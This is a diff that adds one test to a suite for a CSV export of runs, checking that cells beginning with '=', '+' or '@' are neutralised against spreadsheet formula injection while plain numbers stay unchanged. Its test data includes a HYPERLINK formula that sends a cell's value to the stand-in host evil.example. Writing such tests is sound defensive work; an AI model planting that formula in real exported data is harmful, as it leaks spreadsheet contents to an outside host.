@@ -156,4 +156,18 @@ describeDatabases('table of runs', (open) => {
       '',
     ])
   })
+
+  it('writes no cell that a spreadsheet would run as a formula, and leaves numbers as they are', async () => {
+    const context = await open()
+    const name = '=HYPERLINK("http://evil.example/"&A1)'
+    const { id: runId } = await createRun(context, { ...caller, name })
+    const params = ['+1+1', '-2.5', '@SUM(1)', '-Infinity', 'a=b'].map((value, at) => ({
+      key: `p${at}`,
+      value,
+    }))
+    await logBatch(context, { ...caller, runId, params })
+    const [, row] = (await new Response(await csvOfRuns(context, search)).text()).split('\r\n')
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`)
+    expect(row).toMatch(/,'\+1\+1,-2\.5,'@SUM\(1\),-Infinity,a=b$/)
+  })
 })
